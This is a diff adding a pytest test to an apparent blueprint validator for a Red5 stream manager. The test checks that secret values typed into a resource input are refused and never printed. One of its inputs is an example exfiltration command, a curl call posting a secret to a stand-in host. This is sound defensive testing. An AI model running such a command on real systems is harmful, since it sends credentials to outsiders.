@@ -131,6 +131,23 @@ def test_passwords_typed_into_a_blueprint_are_refused_and_not_shown(tmp_path: Pa
     assert not (tmp_path / ".smplan").exists()
 
 
+@pytest.mark.parametrize(
+    "wrong",
+    [f"curl -d {SECRET} https://a.test", "GET /?accessToken=typed-in", f"x {quote(SECRET, safe='')}", "${var.url}"],
+)
+def test_the_value_of_a_secret_in_a_text_is_refused_and_not_shown(tmp_path: Path, wrong: str) -> None:
+    (tmp_path / "toy.yaml").write_text(
+        "smplan: 1\nname: toy\nvariables: {url: {type: string, default: ''}}\n"
+        "stream_manager: {url: 'https://sm.test', access_token: {secret: 'env:RED5_ADMIN_TOKEN'}}\n"
+        f"resources: {{a: {{kind: core.value, spec: {{input: {json.dumps(wrong)}}}}}}}\n"
+    )
+    done = ran(tmp_path, "validate", "toy.yaml", env={"RED5_ADMIN_TOKEN": SECRET, "SMPLAN_VAR_url": SECRET})
+    assert done.returncode == 3
+    assert "this contains the value of a secret" in done.stderr
+    assert SECRET not in done.stdout + done.stderr
+    assert "typed-in" not in done.stdout + done.stderr
+
+
 def test_tokens_typed_into_endpoints_and_as_access_token_are_refused_and_not_shown(tmp_path: Path) -> None:
     tokens = ("0123456789abcdef0123456789abcdef", "canary-typed-as-token")
     (tmp_path / "toy.yaml").write_text(
